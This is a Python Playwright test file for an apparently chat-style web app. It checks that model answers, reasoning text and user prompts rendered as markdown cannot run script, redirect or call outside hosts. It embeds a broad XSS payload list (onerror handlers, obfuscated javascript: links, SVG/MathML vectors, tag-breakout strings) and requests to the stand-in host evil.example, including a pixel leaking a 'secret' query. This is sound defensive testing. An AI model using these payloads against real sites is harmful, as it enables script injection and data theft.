"""Output and questions are shown, never run, opened or fetched: while written, and when read again."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import Browser, expect
from tests.browser.guard import Guard
from tests.browser.house import House
from tests.browser.screen import Screen

from thinkwell.testing.scenarios import saying

ATTACK = """\
<script>window.__pwned=1;alert(1)</script>

<img src=x onerror="window.__pwned=1"><img src="https://evil.example/i.png">

[click](javascript:window.__pwned=1) [data](data:text/html,<script>window.__pwned=1</script>)
[tab](java\tscript:window.__pwned=1) [case](JaVaScRiPt:window.__pwned=1) [vb](vbscript:x)
[coded](&#106;avascript:window.__pwned=1) [here](/api/site) [name](https://you@evil.example/)
<javascript:window.__pwned=1> ![tracker](https://evil.example/pixel.png?q=secret) ![seen][ref]

[ref]: https://evil.example/reference.png "title"

<svg onload=window.__pwned=1><a href="javascript:window.__pwned=1"><text>svg</text></a></svg>
<math><maction actiontype="statusline" href="javascript:window.__pwned=1">math</maction></math>
<style>@import url(https://evil.example/style.css); * { display: none }</style>
<link rel="stylesheet" href="https://evil.example/style.css"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><iframe src=//evil.example></iframe>
<form action="https://evil.example/"><button id=send>send</button></form>
<a href="x" onclick="window.__pwned=1" style="position:fixed;inset:0">all</a> <object data=x></object>
</textarea></title></style></bdi></p><noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">

```"><img src=x onerror=window.__pwned=1>
</code></pre><script>window.__pwned=1</script>
```

| <b onclick=window.__pwned=1>a</b> | ![t](https://evil.example/t.png) |
|---|---|
| `<script>` | [cell](javascript:window.__pwned=1) |

[end](https://example.org/) {{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} safe end.
"""
MIDDLE = ATTACK.index('onerror="win') + 12

# Of an answer, a thought, a question or a title no element may come to be but those that the page makes itself.
FORBIDDEN = ",".join(
    f"{place} {tag}"
    for place in (".prose", "section .text", "article > p", "nav bdi", "header bdi", "dialog p")
    for tag in (
        *("script", "img", "svg", "math", "style", "link", "base", "meta", "iframe", "form", "object"),
        *("noscript", "input", "textarea", "video", "audio", "embed", "[onclick]", "[onerror]", "[style]"),
    )
)


async def nothing_happened(screen: Screen) -> None:
    page = screen.page
    assert await page.evaluate("() => window.__pwned") is None
    assert await page.locator(FORBIDDEN).count() == 0
    assert page.url.startswith(screen.home)
    assert len(page.context.pages) == 1
    assert await page.evaluate("() => document.baseURI === location.href")
    links = await page.locator(".prose a").evaluate_all("(all) => all.map((link) => [link.href, link.rel])")
    for href, rel in links:
        assert re.match("https?://(evil.example|example.org)/", href), href
        assert {"noopener", "noreferrer", "nofollow"} <= set(rel.split())
    names = await page.locator(".prose a").all_inner_texts()
    assert not {"click", "data", "tab", "case", "vb", "coded", "here", "name", "cell"} & set(names)


@pytest.mark.parametrize("channel", ["answer", "thought"])
async def test_what_a_model_says_cannot_act_however_it_is_cut(
    screen: Screen, house: House, channel: str
) -> None:
    steps = tuple(ATTACK)
    house.engine.play(saying(*steps) if channel == "answer" else saying("Done.", reasoning=steps))
    house.engine.gates.hold(str(MIDDLE))
    await screen.ask("Attack!")
    shown = screen.answer if channel == "answer" else screen.thought_text
    await expect(shown).to_contain_text("onerror")
    await nothing_happened(screen)
    house.engine.gates.release(str(MIDDLE))
    for _ in ("live", "after a reload"):
        await screen.finished()
        if channel == "thought":
            await expect(screen.thought).to_have_attribute("aria-expanded", "false")
            await screen.thought.click()
            await expect(screen.thought).to_have_attribute("aria-expanded", "true")
            await expect(shown).to_contain_text("safe end.", use_inner_text=True)
            # Its steps stand apart without the empty lines that were between them.
            lines = (await shown.inner_text()).splitlines()
            assert [line for line in lines if line] == [line for line in ATTACK.splitlines() if line]
        else:
            for words in ("<script>window.__pwned=1;alert(1)</script>", "</textarea></title>", "safe end."):
                await expect(shown).to_contain_text(words)
            await shown.get_by_text("Copy", exact=True).click()
        await nothing_happened(screen)
        await screen.reload()


@pytest.mark.parametrize(
    "attack", ["<img src=x onerror=window.__pwned=1>", "</title></bdi><script>window.__pwned=1</script>"]
)
async def test_what_a_person_asks_cannot_act_in_the_list_the_title_or_what_is_found(
    screen: Screen, attack: str
) -> None:
    await screen.ask_and_wait(f"{attack}\n{ATTACK}")
    await nothing_happened(screen)
    await screen.reload()
    await expect(screen.asked_texts).to_contain_text("safe end.")
    await expect(screen.page).to_have_title(re.compile(re.escape(attack[:20])))
    await screen.list.get_by_role("button", name="More about").click()
    await screen.list.get_by_role("button", name="Delete").click()
    await expect(screen.page.get_by_role("group", name="Deleted conversation")).to_contain_text(attack[:20])
    await screen.page.get_by_role("button", name="Undo").click()
    await expect(screen.list.get_by_role("link")).to_have_count(1)
    await screen.page.get_by_role("searchbox").fill("safe end")
    await expect(screen.list.locator("mark")).not_to_have_count(0)
    await nothing_happened(screen)


async def test_direction_signs_and_split_characters_are_shown_whole(screen: Screen, house: House) -> None:
    house.engine.play("unicode")
    await screen.ask_and_wait()
    for _ in ("live", "after a reload"):
        await expect(screen.answer).to_contain_text("👩\u200d🚀 🇺🇦 مرحبا")
        await expect(screen.answer.locator("bdi").first).to_contain_text("evil")
        await screen.reload()


async def test_the_guard_of_these_tests_sees_what_it_is_there_for(browser: Browser, house: House) -> None:
    guard = Guard()
    guard.at_home(house.url)
    async with await browser.new_context() as context:
        await guard.watch(context)
        page = await context.new_page()
        await page.goto(house.url)
        guard.check()
        await page.evaluate("() => { setTimeout(() => { throw new Error('thrown') }) }")
        await page.evaluate("() => { console.error('said'); alert('asked'); open('/docs') }")
        await page.evaluate("() => fetch('http://evil.example/fetched').catch(() => {})")
        await page.evaluate("() => { location.href = 'http://evil.example/gone' }")
        await expect(page).not_to_have_url(re.compile("127.0.0.1"))
    for sign in (
        "uncaught: ",
        "error: said",
        "dialog: asked",
        "popup: ",
        "gone",
        "policy: connect-src",
    ):
        assert any(sign.lower() in line.lower() for line in guard.seen), (sign, guard.seen)


async def test_the_page_allows_no_script_but_its_own(screen: Screen) -> None:
    """The policy is a second wall: this one is climbed on purpose."""
    screen.guard.expect("policy: |Content Security Policy|TrustedHTML|This document requires")
    write = "() => { document.body.innerHTML = '<img src=x onerror=\"window.__pwned=1\">' }"
    with pytest.raises(Exception, match="TrustedHTML"):
        await screen.page.evaluate(write)
    inline = """() => { const script = document.createElement('script');
        try { script.text = 'window.__pwned=1' } catch { return }
        document.body.append(script) }"""
    await screen.page.evaluate(inline)
    assert await screen.page.evaluate("() => window.__pwned") is None
    reach = "() => fetch('https://evil.example/').then(() => 'reached', () => 'refused')"
    assert await screen.page.evaluate(reach) == "refused"
